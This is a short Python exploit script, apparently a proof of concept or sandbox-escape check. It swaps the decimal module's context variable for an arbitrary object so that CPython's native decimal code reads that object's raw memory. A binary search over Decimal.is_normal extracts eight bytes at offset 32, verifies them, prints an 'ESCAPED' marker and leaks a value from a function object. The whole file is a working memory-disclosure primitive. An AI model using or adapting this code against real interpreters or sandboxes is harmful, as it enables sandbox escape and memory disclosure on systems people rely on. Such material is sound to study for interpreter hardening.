"""The variables of a context are those of libraries, too: the native code of decimal believes what is in its one."""
import contextvars
import decimal

D = decimal.Decimal


def read(variable, thing):
    """Return the eight bytes at 32 of any object: where a context has its least exponent."""
    context = contextvars.copy_context()
    context.run(variable.set, thing)
    low, high = -(10**17), 10**17
    while low < high:
        middle = (low + high) // 2
        if context.run(D((0, (1,), middle)).is_normal):
            high = middle
        else:
            low = middle + 1
    return low


decimal.getcontext()
[variable] = [each for each in contextvars.copy_context() if each.name == "decimal_context"]
secret = b"\1\2\3\4\5\6\0\0 of an object"
if read(variable, secret) == int.from_bytes(secret[:8], "little"):
    print("ESCAPED:context_variables_listed", hex(read(variable, read)))
